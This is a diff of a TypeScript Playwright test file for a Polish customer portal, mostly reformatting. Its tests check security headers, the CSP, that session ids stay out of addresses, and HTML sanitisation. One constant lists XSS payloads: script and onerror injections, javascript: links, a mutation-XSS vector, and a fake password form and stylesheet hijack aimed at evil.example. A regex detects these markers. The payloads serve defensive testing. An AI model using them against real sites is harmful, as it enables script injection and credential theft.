@@ -8,13 +8,22 @@ import { headersFor } from "../../deploy/security-headers.ts";
 import listed from "../../deploy/security-headers.json" with { type: "json" };
 
 /** Those that make sense without HTTPS too. The sandbox alone lets its own simulator of the app frame the portal. */
-const LISTED = listed.filter(({ deployOnly }) => deployOnly !== true).map(({ name, value }) => ({ name, value: value.replace("frame-ancestors 'none'", "frame-ancestors 'self'") }));
+const LISTED = listed
+  .filter(({ deployOnly }) => deployOnly !== true)
+  .map(({ name, value }) => ({ name, value: value.replace("frame-ancestors 'none'", "frame-ancestors 'self'") }));
 
-test("every answer of the portal carries exactly the listed security headers, with the configured host of frames and no other", async ({ request, page, baseURL }) => {
+test("every answer of the portal carries exactly the listed security headers, with the configured host of frames and no other", async ({
+  request,
+  page,
+  baseURL,
+}) => {
   // the provider's pages are at its other name: a frame of the portal's own origin would not be fenced off
   const frames = new URL(baseURL ?? "");
   frames.hostname = frames.hostname === "localhost" ? "127.0.0.1" : "localhost";
-  const expected = headersFor(LISTED, { provider: { serviceUrl: "/service" }, hosts: { payment: [], iframe: [frames.host] } });
+  const expected = headersFor(LISTED, {
+    provider: { serviceUrl: "/service" },
+    hosts: { payment: [], iframe: [frames.host] },
+  });
   const HEADERS = Object.entries(expected).map(([name, value]) => [name.toLowerCase(), value] as const);
   const pages = ["/", "/index", "/nie-ma", "/sessionExpired", "/first-paint.js", "/favicon.svg", "/assets/nie-ma.js"];
   for (const address of pages) {
@@ -34,7 +43,10 @@ test("every answer of the portal carries exactly the listed security headers, wi
   expect(scripts, "chunks, styles, fonts and answers of the provider").toEqual([]);
 });
 
-test("the policy holds: no inline script runs, no string becomes code, no markup comes from text", async ({ page, troubles }) => {
+test("the policy holds: no inline script runs, no string becomes code, no markup comes from text", async ({
+  page,
+  troubles,
+}) => {
   troubles.allow(/Content Security Policy|TrustedHTML|Trusted|CSP (script-src|require-trusted-types-for)/);
   await page.goto("/");
   const outcome = await page.evaluate(() => {
@@ -57,12 +69,17 @@ test("the policy holds: no inline script runs, no string becomes code, no markup
   expect(outcome.refused).toEqual(["script text", "html text"]);
 });
 
-test("the session id is in no address: not of a request, not of a page, not of a referrer", async ({ page, context }) => {
+test("the session id is in no address: not of a request, not of a page, not of a referrer", async ({
+  page,
+  context,
+}) => {
   const addresses: string[] = [];
   context.on("request", (request) => addresses.push(request.url(), request.headers()["referer"] ?? ""));
   page.on("framenavigated", (frame) => addresses.push(frame.url()));
   await login(page, "m.brzezinska");
-  const id = await page.evaluate(() => /"sessionId":"([^"]+)"/.exec(localStorage.getItem("ebok.session") ?? "")?.[1] ?? "");
+  const id = await page.evaluate(
+    () => /"sessionId":"([^"]+)"/.exec(localStorage.getItem("ebok.session") ?? "")?.[1] ?? "",
+  );
   expect(id).toMatch(/^[\da-f]{48}$/);
   for (const name of ["Faktury", "Usługi", "Oferta", "Wiadomości"]) {
     await openSection(page, name);
@@ -76,14 +93,22 @@ test("the session id is in no address: not of a request, not of a page, not of a
   await expect(page).toHaveURL("/");
   expect(addresses.length).toBeGreaterThan(20);
   expect(addresses.filter((address) => address.includes(id))).toEqual([]);
-  expect((await context.cookies()).filter(({ value }) => value.includes(id)), "nor in a cookie").toEqual([]);
+  expect(
+    (await context.cookies()).filter(({ value }) => value.includes(id)),
+    "nor in a cookie",
+  ).toEqual([]);
   expect(await page.evaluate(() => JSON.stringify(window.history.state) + document.referrer)).not.toContain(id);
 });
 
-test("no request says which page it came from: a token or a payment may stand in the address", async ({ page, context }) => {
+test("no request says which page it came from: a token or a payment may stand in the address", async ({
+  page,
+  context,
+}) => {
   await context.addCookies([{ name: "ebok.cookies", value: "all", url: test.info().project.use.baseURL ?? "" }]);
   const asked: Promise<readonly [path: string, referrer: string | undefined]>[] = [];
-  context.on("request", (request) => asked.push(request.allHeaders().then((headers) => [new URL(request.url()).pathname, headers["referer"]])));
+  context.on("request", (request) =>
+    asked.push(request.allHeaders().then((headers) => [new URL(request.url()).pathname, headers["referer"]])),
+  );
   const event = page.waitForRequest((request) => request.url().includes("/analyticsEvent"));
   await comeIn(page, "m.brzezinska", "/paymentComplete/invoice?paymentId=tajna-platnosc");
   await event;
@@ -95,31 +120,38 @@ test("no request says which page it came from: a token or a payment may stand in
 
 const HOSTILE = [
   "<script>window.hacked = 1</script>",
-  "<img src=x onerror=\"window.hacked = 1\">",
-  "<svg onload=\"window.hacked = 1\"><script>window.hacked = 1</script></svg>",
-  "<a href=\"javascript:window.hacked=1\">Kliknij</a>",
+  '<img src=x onerror="window.hacked = 1">',
+  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
+  '<a href="javascript:window.hacked=1">Kliknij</a>',
   "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
-  "<form action=\"https://evil.example\"><input name=haslo><button>Zaloguj się</button></form>",
-  "<iframe srcdoc=\"<script>parent.hacked = 1</script>\"></iframe>",
-  "<p style=\"position:fixed;inset:0\" class=\"dialog\" id=\"tresc\">Zasłona</p>",
+  '<form action="https://evil.example"><input name=haslo><button>Zaloguj się</button></form>',
+  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
+  '<p style="position:fixed;inset:0" class="dialog" id="tresc">Zasłona</p>',
   "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
-  "<img src=\"https://evil.example/pixel.png\">",
+  '<img src="https://evil.example/pixel.png">',
 ].join("");
 
 async function expectHarmless(page: Page): Promise<void> {
   expect(await page.evaluate(() => "hacked" in window)).toBe(false);
   const promo = page.getByRole("region", { name: "Promocja" });
-  expect(await promo.innerHTML()).not.toMatch(/script|onerror|onload|javascript:|<form|<input|<iframe|<style|<base|style=|id="tresc"/i);
+  expect(await promo.innerHTML()).not.toMatch(
+    /script|onerror|onload|javascript:|<form|<input|<iframe|<style|<base|style=|id="tresc"/i,
+  );
 }
 
 test("(part of SITE-01) the operator's hostile HTML is shown as words at most", async ({ page, troubles }) => {
-  // the policy watches the sanitiser's own parser too, and a picture of another host is closed by it: nothing of it runs
+  // the policy watches the sanitiser's own parser too, and a picture of another host is closed by it: nothing of it
+  // runs
   troubles.allow(/Content Security Policy|^console: CSP /);
   const elsewhere: string[] = [];
   page.on("response", (response) => {
     if (new URL(response.url()).hostname.endsWith("evil.example")) elsewhere.push(response.url());
   });
-  await rewriteReply(page, "getSiteContent", siteContentWith("bottom_logged_in_banner", `<p>Na początku.</p>${HOSTILE}<p>Na końcu.</p>`));
+  await rewriteReply(
+    page,
+    "getSiteContent",
+    siteContentWith("bottom_logged_in_banner", `<p>Na początku.</p>${HOSTILE}<p>Na końcu.</p>`),
+  );
   await comeIn(page, "m.brzezinska");
   const promo = page.getByRole("region", { name: "Promocja" });
   await expect(promo).toContainText("Na początku.");
@@ -132,8 +164,12 @@ test("(part of SITE-01) the operator's hostile HTML is shown as words at most", 
 
 test("(part of SITE-01) HTML in texts that are none stays text", async ({ page }) => {
   const text = "&lt;img src=x onerror=window.hacked=1&gt;&lt;script&gt;window.hacked=1&lt;/script&gt;";
-  await rewriteReply(page, "getClientData", (xml) => xml.replaceAll(/<(firstName|lastName|customName|productInfo)>[^<]*/g, (_all, name: string) => `<${name}>${text}`));
-  await rewriteReply(page, "getOutageMessages", (xml) => xml.replaceAll(/<(title|body)>[^<]*/g, (_all, name: string) => `<${name}>${text}`));
+  await rewriteReply(page, "getClientData", (xml) =>
+    xml.replaceAll(/<(firstName|lastName|customName|productInfo)>[^<]*/g, (_all, name: string) => `<${name}>${text}`),
+  );
+  await rewriteReply(page, "getOutageMessages", (xml) =>
+    xml.replaceAll(/<(title|body)>[^<]*/g, (_all, name: string) => `<${name}>${text}`),
+  );
   await rewriteReply(page, "getClientMessages", (xml) => xml.replaceAll(/<title>[^<]*/g, `<title>${text}`));
   await comeIn(page, "m.brzezinska");
   await expect(page.getByRole("main").getByText("<img src=x onerror=window.hacked=1>").first()).toBeVisible();
